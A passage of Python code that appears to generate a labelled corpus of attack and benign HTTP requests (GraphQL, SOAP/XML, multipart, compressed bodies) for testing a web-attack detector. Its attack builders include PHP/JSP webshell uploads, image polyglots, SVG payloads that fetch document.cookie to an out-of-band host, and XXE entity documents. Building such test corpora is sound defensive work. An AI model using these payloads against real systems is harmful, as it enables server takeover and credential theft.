"""Protocol corpus families carried in HTTP/1.1 bodies: GraphQL, SOAP/XML
(and XML-RPC), multipart/form-data, and content-coded (gzip, deflate,
brotli) bodies. Each family builder returns (attacks, benign) as lists of
(fields, placement, evasion) dicts that gen_protocols.py turns into
records; the content type decides how Weir parses each body."""

import json

from corpus_common import (HOST_GRAPHQL, HOST_SOAP, HOSTS_API, UA_ATTACK, auth_header, base_headers, form_body, pct,
                           jpeg_bytes, png_bytes, rand_str, uuid4, xml_text, ALNUM, HEX)
from corpus_payloads_inj import weighted
from corpus_payloads_struct import NOSQL_JSON_LOGIN, XXE_TARGETS, _xxe_doc, graphql_request
from corpus_payloads_inj import OAST, ATTACKER_IPS
from proto_values import (attack_value, benign_param_value, company, email, param_for, person, product, prose, rich_text, search_term,
                          tag, city)
from proto_wire import encode_body


def _headers(rng, host, attack, accept="application/json"):
    if attack:
        ua = rng.choice(UA_ATTACK)
        h = base_headers(rng, host, ua=ua, accept=accept, browser=ua.startswith("Mozilla/5.0 ("))
    else:
        h = base_headers(rng, host, accept=accept)
    if rng.random() < 0.6:
        h.append(auth_header(rng))
    return h


def rec(method, uri, headers, body, placement, evasion, cls=None, **extra):
    d = dict(method=method, uri=uri, headers=headers, body=body, placement=placement, evasion=evasion, cls=cls)
    d.update(extra)
    return d


# ================================================================ GraphQL

GQL_OPS = [
    # (operation, variable name, GraphQL type, document template with $var)
    ("SearchProducts", "term", "String!", "query SearchProducts($term: String!, $first: Int = 20) {\n  products(search: $term, first: $first) {\n    edges { node { id name price { amount currency } } }\n    pageInfo { hasNextPage endCursor }\n  }\n}"),
    ("AddReview", "body", "String!", "mutation AddReview($productId: ID!, $rating: Int!, $body: String!) {\n  addReview(productId: $productId, rating: $rating, body: $body) { id createdAt }\n}"),
    ("UpdateProfile", "bio", "String", "mutation UpdateProfile($bio: String, $displayName: String) {\n  updateProfile(input: {bio: $bio, displayName: $displayName}) { user { id bio displayName } errors { field message } }\n}"),
    ("CreateTicket", "description", "String!", "mutation CreateTicket($subject: String!, $description: String!) {\n  createTicket(input: {subject: $subject, description: $description, priority: NORMAL}) { ticket { id number } }\n}"),
    ("UserByEmail", "email", "String!", "query UserByEmail($email: String!) { user(email: $email) { id name orders(last: 5) { id total } } }"),
    ("FileDownload", "path", "String!", "query FileDownload($path: String!) { file(path: $path) { name size downloadUrl } }"),
    ("ImportFeed", "url", "URL!", "mutation ImportFeed($url: URL!) { importFeed(url: $url) { jobId status } }"),
    ("Diagnose", "host", "String!", "mutation Diagnose($host: String!) { runDiagnostics(host: $host) { reachable latencyMs } }"),
    ("OrdersFiltered", "sort", "String", "query OrdersFiltered($sort: String, $status: OrderStatus) { orders(sort: $sort, status: $status, first: 50) { nodes { id status total } } }"),
    ("RenderTemplate", "template", "String!", "mutation RenderTemplate($template: String!, $data: JSON) { previewEmail(template: $template, data: $data) { html } }"),
]
# The operation whose argument reaches the sink each class aims at.
GQL_OPS_BY_CLASS = {"path_traversal": ("FileDownload",), "ssrf": ("ImportFeed",), "cmd_injection": ("Diagnose",),
                    "ssti": ("RenderTemplate",), "ldapi": ("UserByEmail",),
                    "sqli": ("SearchProducts", "OrdersFiltered", "UserByEmail", "AddReview"),
                    "xss": ("AddReview", "UpdateProfile", "CreateTicket", "SearchProducts"),
                    "jndi": ("SearchProducts", "UpdateProfile", "CreateTicket", "UserByEmail")}
GQL_PATHS = ["/graphql", "/graphql", "/api/graphql", "/v1/graphql", "/gql", "/query/graphql"]


def _gql_string(value):
    return json.dumps(value, ensure_ascii=False)


def _gql_post(rng, headers, payload, path=None):
    return rec("POST", path or rng.choice(GQL_PATHS), headers + [["Content-Type", rng.choice(["application/json", "application/json; charset=utf-8"])]],
               json.dumps(payload, ensure_ascii=rng.random() < 0.2, separators=(",", ":")), "graphql_var", "none")


def graphql_attack(rng):
    host = rng.choice(HOST_GRAPHQL)
    h = _headers(rng, host, True)
    form = weighted(rng, [("variable", 40), ("inline", 18), ("get", 10), ("batch", 8), ("persisted", 5), ("nosql", 7),
                          ("abuse", 9), ("introspection", 3)])
    if form == "abuse":
        a = graphql_request(rng)
        return rec(a["method"], a["uri"], h + [x for x in a["headers"] if x[0].lower() == "content-type"], a["body"],
                   a["placement"], a["evasion"], "graphql")
    if form == "introspection":
        q = rng.choice(["query IntrospectionQuery { __schema { queryType { name } mutationType { name } types { kind name fields(includeDeprecated: true) { name args { name type { name kind } } } } } }",
                        "{ __schema { types { name } } }", "query { __type(name: \"User\") { name fields { name type { name kind ofType { name } } } } }",
                        "{__schema{directives{name locations args{name}}}}"])
        return rec("POST", rng.choice(GQL_PATHS), h + [["Content-Type", "application/json"]], json.dumps({"query": q}), "graphql_doc", "introspection", "graphql")
    if form == "nosql":
        obj, _ = rng.choice(NOSQL_JSON_LOGIN)
        q = "query Find($filter: JSON!) { users(filter: $filter) { id email role } }"
        return dict(_gql_post(rng, h, {"operationName": "Find", "query": q, "variables": {"filter": obj}}), cls="nosqli", evasion="operator_object")
    cls, value, evasion = attack_value(rng)
    ops = [o for o in GQL_OPS if o[0] in GQL_OPS_BY_CLASS.get(cls, ())]
    op, var, typ, doc = rng.choice(ops if ops and rng.random() < 0.85 else GQL_OPS)
    variables = {var: value}
    if op == "AddReview":
        variables.update(productId=uuid4(rng), rating=rng.randrange(1, 6))
    if op == "CreateTicket":
        variables.setdefault("subject", rng.choice(["Refund", "Login problem", "Order missing"]))
    if form == "variable":
        r = dict(_gql_post(rng, h, {"operationName": op, "query": doc, "variables": variables}), cls=cls, evasion=evasion)
        if rng.random() < 0.15:
            r["body"] = r["body"].replace("'", "\\u0027").replace("<", "\\u003c").replace(">", "\\u003e")
            r["evasion"] = evasion + "+json_unicode"
        return r
    if form == "inline":
        # The value as a literal argument: the document itself carries it.
        arg = {"term": "search", "body": "body", "bio": "bio", "description": "description", "email": "email", "path": "path",
               "url": "url", "host": "host", "sort": "sort", "template": "template"}[var]
        field = {"SearchProducts": "products", "AddReview": "addReview", "UpdateProfile": "updateProfile", "CreateTicket": "createTicket",
                 "UserByEmail": "user", "FileDownload": "file", "ImportFeed": "importFeed", "Diagnose": "runDiagnostics",
                 "OrdersFiltered": "orders", "RenderTemplate": "previewEmail"}[op]
        lit = _gql_string(value)
        ev = evasion
        if "\n" not in value and '"""' not in value and rng.random() < 0.2:
            lit = '"""' + value + '"""'  # block strings take no escapes
            ev += "+block_string"
        kind = "mutation" if field not in ("products", "user", "file", "orders") else "query"
        q = "%s {\n  %s(%s: %s) { __typename }\n}" % (kind, field, arg, lit)
        if rng.random() < 0.2:
            q = "# generated by the storefront\n" + q.replace("(", "(\n    # filter\n    ", 1)
            ev += "+comments"
        if rng.random() < 0.4:
            return rec("POST", rng.choice(GQL_PATHS), h + [["Content-Type", "application/graphql"]], q, "graphql_doc", ev, cls)
        return rec("POST", rng.choice(GQL_PATHS), h + [["Content-Type", "application/json"]], json.dumps({"query": q}, ensure_ascii=False),
                   "graphql_doc", ev, cls)
    if form == "get":
        uri = "%s?query=%s&operationName=%s&variables=%s" % (rng.choice(GQL_PATHS), pct(doc.replace("\n", " "), plus_space=rng.random() < 0.5),
                                                              op, pct(json.dumps(variables, separators=(",", ":"))))
        return rec("GET", uri, h, "", "graphql_query", evasion, cls)
    if form == "batch":
        ops = [{"operationName": "Me", "query": "query Me { me { id name cart { count } } }"}]
        ops.append({"operationName": op, "query": doc, "variables": variables})
        if rng.random() < 0.5:
            ops.append({"operationName": "Flags", "query": "query Flags { featureFlags { key enabled } }"})
        return dict(_gql_post(rng, h, ops), placement="graphql_batch", cls=cls, evasion=evasion)
    # persisted query: only a hash and the variables travel.
    body = {"operationName": op, "variables": variables,
            "extensions": {"persistedQuery": {"version": 1, "sha256Hash": rand_str(rng, HEX, 64)}}}
    return dict(_gql_post(rng, h, body), placement="graphql_persisted", cls=cls, evasion=evasion)


def _benign_vars(rng, op):
    name = person(rng)
    return {
        "SearchProducts": lambda: {"term": search_term(rng), "first": rng.choice([10, 20, 50])},
        "AddReview": lambda: {"productId": uuid4(rng), "rating": rng.randrange(1, 6), "body": prose(rng)},
        "UpdateProfile": lambda: {"bio": prose(rng, 0.7), "displayName": name},
        "CreateTicket": lambda: {"subject": rng.choice(["Can't log in", "Refund for order #%d" % rng.randrange(10000, 99999), "Question about 'Select' plan", "Invoice wrong"]),
                                 "description": prose(rng, 0.6)},
        "UserByEmail": lambda: {"email": email(rng, name)},
        "FileDownload": lambda: {"path": rng.choice(["invoices/2024/INV-%05d.pdf" % rng.randrange(99999), "exports/orders-2024-11.csv", "avatars/%s.png" % uuid4(rng)])},
        "ImportFeed": lambda: {"url": rng.choice(["https://blog.example/feed.xml", "https://news.partner.example/rss", "https://www.example.org/products.atom"])},
        "Diagnose": lambda: {"host": rng.choice(["api.partner.example", "db-replica-2.internal.example", "mail.example"])},
        "OrdersFiltered": lambda: {"sort": rng.choice(["createdAt_DESC", "total_ASC", "status"]), "status": rng.choice(["SHIPPED", "PENDING"])},
        "RenderTemplate": lambda: {"template": rng.choice(["Hi {{first_name}}, your order {{order_id}} has shipped!", "Dear {{name}},\n\nthanks for your purchase."]),
                                   "data": {"first_name": name.split()[0], "order_id": "ORD-%d" % rng.randrange(10**5, 10**6)}},
    }[op]()


def graphql_benign(rng):
    host = rng.choice(HOST_GRAPHQL)
    h = _headers(rng, host, False)
    form = weighted(rng, [("variable", 45), ("inline", 12), ("get", 12), ("batch", 10), ("persisted", 10), ("fragments", 11)])
    op, var, typ, doc = rng.choice(GQL_OPS)
    variables = _benign_vars(rng, op)
    if form == "variable":
        return _gql_post(rng, h, {"operationName": op, "query": doc, "variables": variables})
    if form == "inline":
        term = search_term(rng)
        q = 'query {\n  products(search: %s, first: 10) @include(if: true) {\n    edges { node { id name } }\n  }\n}' % _gql_string(term)
        if rng.random() < 0.5:
            return rec("POST", rng.choice(GQL_PATHS), h + [["Content-Type", "application/graphql"]], q, "graphql_doc", "none")
        return rec("POST", rng.choice(GQL_PATHS), h + [["Content-Type", "application/json"]], json.dumps({"query": q}, ensure_ascii=False), "graphql_doc", "none")
    if form == "get":
        uri = "%s?query=%s&variables=%s" % (rng.choice(GQL_PATHS), pct(doc.replace("\n", " "), plus_space=rng.random() < 0.5),
                                             pct(json.dumps(variables, separators=(",", ":"))))
        return rec("GET", uri, h, "", "graphql_query", "none")
    if form == "batch":
        ops = [{"operationName": "Me", "query": "query Me { me { id name cart { count } } }"},
               {"operationName": op, "query": doc, "variables": variables}]
        return dict(_gql_post(rng, h, ops), placement="graphql_batch")
    if form == "persisted":
        body = {"operationName": op, "variables": variables, "extensions": {"persistedQuery": {"version": 1, "sha256Hash": rand_str(rng, HEX, 64)}}}
        return dict(_gql_post(rng, h, body), placement="graphql_persisted")
    q = ("query ProductPage($id: ID!, $withReviews: Boolean = false) {\n  product(id: $id) { ...ProductCard reviews(first: 5) @include(if: $withReviews) { body rating author { name } } }\n}\n"
         "fragment ProductCard on Product { id name description price { amount currency } images { url alt } }")
    return _gql_post(rng, h, {"operationName": "ProductPage", "query": q, "variables": {"id": uuid4(rng), "withReviews": rng.random() < 0.5}})


# ================================================================ SOAP / XML

SOAP_OPS = [
    ("GetOrderStatus", "orderReference", "http://logistics.example/ws/GetOrderStatus"),
    ("TrackShipment", "trackingNumber", "http://logistics.example/ws/TrackShipment"),
    ("CreateCustomer", "customerName", "urn:crm:CreateCustomer"),
    ("TransferFunds", "memo", "http://bank.example/payments/TransferFunds"),
    ("SearchAccounts", "query", "http://bank.example/accounts/SearchAccounts"),
    ("UploadDocument", "fileName", "urn:crm:UploadDocument"),
    ("SetCallbackUrl", "callbackUrl", "urn:crm:SetCallbackUrl"),
    ("AddNote", "noteText", "urn:crm:AddNote"),
    ("RunDiagnostics", "host", "urn:netops:RunDiagnostics"),
    ("FindDirectoryUser", "username", "urn:crm:FindDirectoryUser"),
]
SOAP_OPS_BY_CLASS = {"path_traversal": ("UploadDocument",), "ssrf": ("SetCallbackUrl",), "cmd_injection": ("RunDiagnostics", "UploadDocument"),
                     "ldapi": ("FindDirectoryUser",), "sqli": ("GetOrderStatus", "SearchAccounts", "TrackShipment", "FindDirectoryUser"),
                     "xss": ("AddNote", "CreateCustomer", "TransferFunds"), "ssti": ("AddNote", "CreateCustomer"),
                     "jndi": ("SearchAccounts", "CreateCustomer", "AddNote")}


def _wsse(rng):
    return ('<soap:Header><wsse:Security xmlns:wsse="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd">'
            '<wsse:UsernameToken><wsse:Username>%s</wsse:Username><wsse:Password Type="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-username-token-profile-1.0#PasswordText">%s</wsse:Password>'
            '<wsse:Nonce>%s==</wsse:Nonce></wsse:UsernameToken></wsse:Security></soap:Header>' % (
                rng.choice(["svc-crm", "integration", "erp-sync"]), rand_str(rng, ALNUM, 16), rand_str(rng, ALNUM, 22)))


def _soap(rng, op, field, inner_value, ns, v12, extra=""):
    env = "http://www.w3.org/2003/05/soap-envelope" if v12 else "http://schemas.xmlsoap.org/soap/envelope/"
    head = _wsse(rng) if rng.random() < 0.4 else ""
    return ('<?xml version="1.0" encoding="utf-8"?>\n<soap:Envelope xmlns:soap="%s" xmlns:tns="%s">%s<soap:Body><tns:%s>'
            '<tns:%s>%s</tns:%s>%s</tns:%s></soap:Body></soap:Envelope>' % (env, ns, head, op, field, inner_value, field, extra, op))


def _soap_request(rng, h, body, action, v12):
    if v12:
        return ("POST", rng.choice(["/ws/v2", "/services/CrmService", "/soap12"]),
                h + [["Content-Type", 'application/soap+xml; charset=utf-8; action="%s"' % action]])
    return ("POST", rng.choice(["/ws/OrderService.asmx", "/services/CrmService", "/soap"]),
            h + [["Content-Type", "text/xml; charset=utf-8"], ["SOAPAction", '"%s"' % action]])


def _xml_evasion(rng, value):
    r = rng.random()
    if r < 0.18 and "]]>" not in value:
        return "<![CDATA[" + value + "]]>", "cdata"
    if r < 0.3:
        return "".join("&#x%x;" % ord(c) if c in "<>'\"&()=;/|` " else (xml_text(c)) for c in value), "xml_charref"
    return xml_text(value), "none"


def soap_attack(rng):
    host = rng.choice(HOST_SOAP)
    h = _headers(rng, host, True, accept="text/xml")
    form = weighted(rng, [("value", 52), ("attribute", 8), ("xxe", 22), ("xmlrpc", 10), ("rest_xml", 8)])
    op, field, action = rng.choice(SOAP_OPS)
    ns = action.rsplit("/", 1)[0] if action.startswith("http") else "urn:crm"
    v12 = rng.random() < 0.35
    if form == "xxe":
        target = rng.choice(XXE_TARGETS).replace("{ip}", rng.choice(ATTACKER_IPS))
        oast = rng.choice(OAST).split("/")[0]
        kind = weighted(rng, [("classic", 40), ("oob_parameter", 15), ("external_dtd", 10), ("xinclude", 10), ("billion_laughs", 8),
                              ("public_id", 7), ("oob_exfil", 10)])
        if kind in ("classic", "public_id"):
            decl = '<!DOCTYPE soap:Envelope [<!ENTITY xxe %s "%s">]>' % ("SYSTEM" if kind == "classic" else 'PUBLIC "-//W3C//DTD X//EN"', target)
            body = _soap(rng, op, field, "&xxe;", ns, v12).replace("?>\n", "?>\n" + decl, 1)
        elif kind == "xinclude":
            body = _soap(rng, op, field, '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="%s"/>' % target, ns, v12)
        else:
            body = _xxe_doc(rng, kind, target, oast)
        m, u, hh = _soap_request(rng, h, body, action, v12)
        return rec(m, u, hh, body, "soap_body", kind, "xxe")
    cls, value, evasion = attack_value(rng)
    ops = [o for o in SOAP_OPS if o[0] in SOAP_OPS_BY_CLASS.get(cls, ())]
    if ops and rng.random() < 0.85:
        op, field, action = rng.choice(ops)
        ns = action.rsplit("/", 1)[0] if action.startswith("http") else "urn:crm"
    if form == "xmlrpc":
        enc, ev = _xml_evasion(rng, value)
        body = ('<?xml version="1.0"?>\n<methodCall><methodName>%s</methodName><params><param><value><string>%s</string></value></param>'
                '<param><value><int>%d</int></value></param></params></methodCall>' % (rng.choice(["wp.getUsersBlogs", "orders.lookup", "files.read", "system.ping"]),
                                                                                         enc, rng.randrange(1, 100)))
        return rec("POST", rng.choice(["/xmlrpc.php", "/RPC2", "/api/xmlrpc"]), h + [["Content-Type", "text/xml"]], body, "xmlrpc_param",
                   "+".join(x for x in (evasion, ev) if x != "none") or "none", cls)
    if form == "rest_xml":
        enc, ev = _xml_evasion(rng, value)
        el = param_for(rng, cls)
        body = '<?xml version="1.0" encoding="UTF-8"?>\n<order><customer id="%d"><name>%s</name></customer><%s>%s</%s></order>' % (
            rng.randrange(1000, 9999), person(rng), el, enc, el)
        return rec("POST", rng.choice(["/api/v1/orders", "/api/v2/import"]), h + [["Content-Type", rng.choice(["application/xml", "text/xml"])]], body,
                   "xml_body", "+".join(x for x in (evasion, ev) if x != "none") or "none", cls)
    if form == "attribute":
        attr = value.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
        body = _soap(rng, op, field, "1", ns, v12, extra='<tns:options %s="%s"/>' % (param_for(rng, cls).replace("[", "").replace("]", ""), attr))
        m, u, hh = _soap_request(rng, h, body, action, v12)
        return rec(m, u, hh, body, "xml_attribute", evasion, cls)
    enc, ev = _xml_evasion(rng, value)
    body = _soap(rng, op, field, enc, ns, v12)
    m, u, hh = _soap_request(rng, h, body, action, v12)
    return rec(m, u, hh, body, "soap_body", "+".join(x for x in (evasion, ev) if x != "none") or "none", cls)


def soap_benign(rng):
    host = rng.choice(HOST_SOAP)
    h = _headers(rng, host, False, accept="text/xml")
    op, field, action = rng.choice(SOAP_OPS)
    ns = action.rsplit("/", 1)[0] if action.startswith("http") else "urn:crm"
    v12 = rng.random() < 0.35
    value = {"orderReference": lambda: "ORD-%d" % rng.randrange(10**5, 10**6), "trackingNumber": lambda: "1Z%s" % rand_str(rng, ALNUM.upper(), 16),
             "customerName": lambda: company(rng), "memo": lambda: rng.choice(["Invoice 2024-11 (O'Reilly & Sons)", "Rent - Union St. flat", "Refund: order #5521, 'damaged'", "select plan upgrade"]),
             "query": lambda: search_term(rng), "fileName": lambda: rng.choice(["contract O'Brien 2024.pdf", "scan_001.tiff", "Q3 report (final).docx"]),
             "callbackUrl": lambda: rng.choice(["https://erp.partner.example/soap/callback", "https://hooks.crm.example/in/7f3a"]),
             "noteText": lambda: prose(rng, 0.7),
             "host": lambda: benign_param_value(rng, "cmd_injection"), "username": lambda: benign_param_value(rng, "ldapi")}[field]()
    r = rng.random()
    if r < 0.12:
        body = ('<?xml version="1.0"?>\n<methodCall><methodName>%s</methodName><params><param><value><string>%s</string></value></param></params></methodCall>'
                % (rng.choice(["orders.lookup", "system.ping", "blogger.newPost"]), xml_text(value)))
        return rec("POST", rng.choice(["/RPC2", "/api/xmlrpc"]), h + [["Content-Type", "text/xml"]], body, "xmlrpc_param", "none")
    if r < 0.22:
        body = '<?xml version="1.0" encoding="UTF-8"?>\n<order><customer id="%d"><name>%s</name></customer><note><![CDATA[%s]]></note></order>' % (
            rng.randrange(1000, 9999), xml_text(person(rng)), rich_text(rng))
        return rec("POST", "/api/v1/orders", h + [["Content-Type", "application/xml"]], body, "xml_body", "none")
    inner = xml_text(value) if rng.random() < 0.85 or "]]>" in value else "<![CDATA[" + value + "]]>"
    extra = '<tns:options sort="%s" lang="%s"/>' % (rng.choice(["date desc", "name", "amount asc"]), rng.choice(["en", "de", "fr"])) if rng.random() < 0.3 else ""
    body = _soap(rng, op, field, inner, ns, v12, extra)
    m, u, hh = _soap_request(rng, h, body, action, v12)
    return rec(m, u, hh, body, "soap_body", "none")


# ================================================================ multipart

def _boundary(rng):
    style = rng.choice(["webkit", "firefox", "curl", "python", "okhttp"])
    if style == "webkit":
        return "----WebKitFormBoundary" + rand_str(rng, ALNUM, 16)
    if style == "firefox":
        return "---------------------------" + "".join(rng.choice("0123456789") for _ in range(29))
    if style == "curl":
        return "------------------------" + rand_str(rng, HEX, 16)
    if style == "python":
        return rand_str(rng, HEX, 32)
    return uuid4(rng)


def _part(name, value, filename=None, ctype=None, filename_star=None, eol="\r\n"):
    disp = 'form-data; name="%s"' % name
    if filename is not None:
        disp += '; filename="%s"' % filename
    if filename_star is not None:
        disp += "; filename*=%s" % filename_star
    head = "Content-Disposition: " + disp + eol
    if ctype:
        head += "Content-Type: " + ctype + eol
    v = value if isinstance(value, bytes) else value.encode("utf-8")
    return head.encode("utf-8") + eol.encode() + v


def _multipart(parts, boundary, eol="\r\n", final=True):
    out = b""
    for p in parts:
        out += ("--" + boundary + eol).encode() + p + eol.encode()
    if final:
        out += ("--" + boundary + "--" + eol).encode()
    return out


UPLOAD_ENDPOINTS = ["/api/v1/uploads", "/api/v1/profile/avatar", "/api/v1/tickets/%d/attachments", "/api/v1/documents", "/import/csv", "/api/v2/media"]


def _mp_fields(rng):
    return [("title", rng.choice(["Q3 report", "Invoice scan", "Profile photo", "Contract draft"])), ("description", prose(rng)),
            ("folder", rng.choice(["invoices", "hr/contracts", "shared", "avatars"]))]


def multipart_attack(rng):
    host = rng.choice(HOSTS_API)
    h = _headers(rng, host, True)
    b = _boundary(rng)
    form = weighted(rng, [("field", 45), ("filename", 22), ("filename_star", 6), ("json_part", 10), ("svg", 6), ("webshell", 6), ("polyglot", 4), ("field_name", 5)])
    eol = "\n" if rng.random() < 0.1 else "\r\n"
    evs = ["lf_only"] if eol == "\n" else []
    fields = _mp_fields(rng)
    parts = []
    if form == "filename":
        cls, value, evasion = "path_traversal", *attack_value(rng, [("path_traversal", 1)])[1:]
        if rng.random() < 0.3:
            cls, value, evasion = attack_value(rng, [("xss", 5), ("sqli", 3), ("cmd_injection", 2)])
        value = value.replace('"', "%22")
        parts.append(_part("file", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog>>endobj\n", filename=value, ctype="application/pdf", eol=eol))
        placement = "multipart_filename"
    elif form == "filename_star":
        cls = "path_traversal"
        value, evasion = attack_value(rng, [("path_traversal", 1)])[1:]
        value = value.replace("%", "")
        parts.append(_part("file", b"col1,col2\n1,2\n", filename="report.csv", filename_star="UTF-8''" + pct(value), ctype="text/csv", eol=eol))
        placement = "multipart_filename"
        evasion = evasion + "+rfc5987"
    elif form == "json_part":
        cls, value, evasion = attack_value(rng)
        meta = json.dumps({"title": "scan", "tags": [tag(rng)], param_for(rng, cls): value}, ensure_ascii=False)
        parts.append(_part("metadata", meta, ctype="application/json", eol=eol))
        parts.append(_part("file", png_bytes(rng, 4, 4), filename="scan.png", ctype="image/png", eol=eol))
        placement = "multipart_json"
    elif form == "svg":
        cls, evasion = "xss", "svg_upload"
        svg = rng.choice(['<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><circle r="40"/></svg>',
                          '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://%s/?c="+document.cookie)</script></svg>' % rng.choice(OAST),
                          '<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(1)"><text y="20">click</text></a></svg>'])
        parts.append(_part("avatar", svg, filename=rng.choice(["avatar.svg", "logo.svg", "me.svg"]), ctype="image/svg+xml", eol=eol))
        placement = "multipart_file"
    elif form == "webshell":
        cls, evasion = "cmd_injection", "webshell_upload"
        shell = rng.choice(["<?php system($_GET['cmd']); ?>", "<?php echo shell_exec($_REQUEST['c']); ?>", "<?php @eval($_POST['x']);?>",
                            "<?=`$_GET[0]`?>", "GIF89a<?php passthru($_GET['cmd']); ?>", "<% Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>"])
        parts.append(_part("file", shell, filename=rng.choice(["shell.php", "avatar.php.jpg", "x.phtml", "cmd.jsp", "image.php5", "a.php%00.png"]),
                           ctype=rng.choice(["image/jpeg", "application/x-php", "image/gif"]), eol=eol))
        placement = "multipart_file"
    elif form == "polyglot":
        # A real image with the shell in its comment segment: binary bytes
        # (zone body_file), run when stored under the web root.
        cls, evasion = "cmd_injection", "polyglot_upload"
        shell = rng.choice([b"<?php system($_GET['cmd']); ?>", b"<?php @eval($_POST['x']);?>", b"<?=`$_GET[0]`?>",
                            b"<%@ page import=\"java.io.*\" %><% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"])
        parts.append(_part("avatar", jpeg_bytes(rng, rng.randrange(1000, 6000), comment=shell),
                           filename=rng.choice(["me.jpg", "avatar.php.jpg", "IMG_0042.jpeg"]), ctype="image/jpeg", eol=eol))
        placement = "multipart_file"
    elif form == "field_name":
        cls, value, evasion = attack_value(rng, [("sqli", 5), ("xss", 3)])
        parts.append(_part(value.replace('"', "'"), "1", eol=eol))
        placement = "multipart_name"
    else:
        cls, value, evasion = attack_value(rng)
        fields[rng.randrange(len(fields))] = (param_for(rng, cls) if rng.random() < 0.8 else rng.choice(["description", "title", "comment"]), value)
        placement = "multipart"
    parts = [_part(n, v, eol=eol) for n, v in fields] + parts
    rng.shuffle(parts)
    final = True
    ctype = "multipart/form-data; boundary=" + b
    r = rng.random()
    if r < 0.1:
        ctype = 'multipart/form-data; boundary="%s"' % b
        evs.append("quoted_boundary")
    elif r < 0.15:
        final = False
        evs.append("missing_final_boundary")
    elif r < 0.2:
        ctype = "multipart/form-data; charset=utf-8; boundary=" + b
        evs.append("charset_param")
    body = _multipart(parts, b, eol, final)
    ev = "+".join([evasion] + evs) if evs else evasion
    path = rng.choice(UPLOAD_ENDPOINTS)
    if "%d" in path:
        path = path % rng.randrange(1000, 99999)
    return rec("POST", path, h + [["Content-Type", ctype]], body, placement, ev, cls)


def multipart_benign(rng):
    host = rng.choice(HOSTS_API)
    h = _headers(rng, host, False)
    b = _boundary(rng)
    fields = _mp_fields(rng)
    if rng.random() < 0.3:
        cls = rng.choice(sorted(GQL_OPS_BY_CLASS))
        fields.append((param_for(rng, cls), benign_param_value(rng, cls)))
    parts = [_part(n, v) for n, v in fields]
    kind = rng.choice(["png", "csv", "pdf", "json", "text", "utf8name", "photo", "archive"])
    if kind == "photo":
        # Camera-sized uploads: compressed bytes hold every short byte run by
        # chance (text rules matched 1 in 3 of these before zone body_file).
        parts.append(_part("file", jpeg_bytes(rng, rng.randrange(4000, 24000)), filename=rng.choice(["IMG_2031.jpg", "scan 04.jpeg", "receipt.jpg"]),
                           ctype=rng.choice(["image/jpeg", "application/octet-stream"])))
    elif kind == "archive":
        parts.append(_part("file", b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(rng.randrange(256) for _ in range(rng.randrange(2000, 16000))),
                           filename=rng.choice(["logs.zip", "report.docx", "export (2).xlsx"]),
                           ctype=rng.choice(["application/zip", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", ""])))
    elif kind == "png":
        parts.append(_part("file", png_bytes(rng, rng.randrange(4, 12), rng.randrange(4, 12)), filename=rng.choice(["me.png", "avatar (1).png", "IMG_2024.png"]), ctype="image/png"))
    elif kind == "csv":
        rows = ["name,company,city,notes"] + ['"%s","%s",%s,"%s"' % (person(rng).replace('"', '""'), company(rng).replace('"', '""'), city(rng)[0],
                                                                       prose(rng, 0.3).replace('"', '""').replace("\n", " ")) for _ in range(rng.randrange(2, 6))]
        parts.append(_part("file", "\n".join(rows) + "\n", filename=rng.choice(["contacts.csv", "O'Brien leads.csv", "import 2024-11.csv"]), ctype="text/csv"))
    elif kind == "pdf":
        parts.append(_part("file", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n" + bytes(rng.randrange(256) for _ in range(120)) + b"\n%%EOF\n",
                           filename=rng.choice(["Invoice #5521.pdf", "contract_final_v2.pdf", "Rechnung März.pdf"]), ctype="application/pdf"))
    elif kind == "json":
        parts.append(_part("metadata", json.dumps({"title": product(rng), "tags": [tag(rng), tag(rng)], "description": prose(rng, 0.6)}, ensure_ascii=False), ctype="application/json"))
    elif kind == "text":
        parts.append(_part("notes", prose(rng, 0.8), filename="notes.txt", ctype="text/plain"))
    else:
        name = rng.choice(["Lebenslauf Müller.pdf", "présentation été.pptx", "见积书.xlsx"])
        parts.append(_part("file", bytes(rng.randrange(256) for _ in range(80)), filename="file.bin", filename_star="UTF-8''" + pct(name), ctype="application/octet-stream"))
    ctype = "multipart/form-data; boundary=" + b if rng.random() < 0.9 else 'multipart/form-data; boundary="%s"' % b
    path = rng.choice(UPLOAD_ENDPOINTS)
    if "%d" in path:
        path = path % rng.randrange(1000, 99999)
    return rec("POST", path, h + [["Content-Type", ctype]], _multipart(parts, b), "multipart", "none")


# ================================================================ content-coded bodies

CODINGS = [(("gzip",), 40), (("deflate",), 15), (("deflate-raw",), 5), (("br",), 25), (("x-gzip",), 3), (("gzip", "br"), 6), (("deflate", "gzip"), 6)]
ENC_ENDPOINTS = ["/api/v1/orders", "/api/v1/events/batch", "/api/v1/tickets", "/api/v2/sync", "/api/v1/reviews", "/api/v1/search", "/collect"]


def _coded_body(rng, value=None, cls=None):
    """A body with `value` (or benign text) in one field: JSON, form or XML;
    the field is one the class targets (benign: sometimes the same names)."""
    shape = weighted(rng, [("json", 60), ("form", 20), ("xml", 10), ("json_batch", 10)])
    v = value if value is not None else prose(rng, 0.6)
    if value is None and rng.random() < 0.35:
        cls = rng.choice(sorted(GQL_OPS_BY_CLASS))
        v = benign_param_value(rng, cls)
    key = param_for(rng, cls) if cls and rng.random() < 0.85 else rng.choice(["note", "comment", "search", "message", "description"])
    if shape == "json":
        obj = {"customer": {"name": person(rng), "email": email(rng)}, "items": [{"sku": "SKU-%05d" % rng.randrange(10**5), "qty": rng.randrange(1, 4)}],
               key: v}
        return json.dumps(obj, ensure_ascii=False).encode("utf-8"), "application/json", "json"
    if shape == "json_batch":
